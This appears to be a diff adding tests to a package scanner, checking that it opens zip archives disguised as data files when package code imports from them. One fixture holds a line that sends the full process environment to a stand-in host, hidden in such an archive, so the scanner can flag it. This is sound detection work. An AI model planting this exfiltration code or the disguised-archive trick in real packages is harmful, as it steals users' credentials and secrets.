@@ -1,0 +1,48 @@
+"""Archives that Python code puts where it looks for modules."""
+
+from pratique.analysis.facts import FileFacts
+from pratique.analysis.languages import python
+from pratique.analysis.mounted import mount, roots
+from pratique.core.tree import File, Tree
+from tests.analysis.inspecting import of_rule, wheel
+from tests.builders import zipped
+
+PUTS = b"import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'data', 'grid.dat'))\nimport core\n"
+INSIDE = zipped({"core/__init__.py": "x = 1\n", "core/notes.txt": "none"})
+
+
+def mounted(code: bytes, data: bytes) -> tuple[Tree, Tree]:
+    tree = Tree((File("parcel/__init__.py", code), File("parcel/data/grid.dat", data)))
+    facts: dict[str, FileFacts] = {"parcel/__init__.py": python.extract(code)}
+    return tree, mount(tree, facts)
+
+
+def test_the_code_in_it_gets_paths_below_it() -> None:
+    tree, found = mounted(PUTS, INSIDE)
+    assert ["parcel/data/grid.dat!/core/__init__.py"] == [
+        file.path for file in found.files[len(tree.files) :]
+    ]
+    assert ("parcel/data/grid.dat!",) == roots(found.by_path)
+
+
+def test_an_importer_of_archives_counts_as_well() -> None:
+    code = b"import zipimport\nzipimport.zipimporter('data/grid.dat').load_module('core')\n"
+    _, found = mounted(code, INSIDE)
+    assert "parcel/data/grid.dat!/core/__init__.py" in found.by_path
+
+
+def test_an_archive_that_no_code_asks_for_stays_closed() -> None:
+    tree, found = mounted(b"import sys\nsys.path.insert(0, 'lib')\n", INSIDE)
+    assert found is tree
+
+
+def test_one_that_cannot_be_read_is_told() -> None:
+    _, found = mounted(PUTS, b"PK\x03\x04" + b"\0" * 40)
+    assert found.omitted or found.anomalies
+
+
+def test_what_it_holds_runs_when_it_is_asked_for() -> None:
+    steals = "import os, urllib.request\nurllib.request.urlopen('https://drop.pratique-test.invalid/', data=str(dict(os.environ)).encode())\n"
+    done = wheel({"parcel/__init__.py": PUTS, "parcel/data/grid.dat": zipped({"core/__init__.py": steals})})
+    places = {place.path for finding in of_rule(done, "attack-chain") for place in finding.locations}
+    assert {"parcel/data/grid.dat!/core/__init__.py"} == places
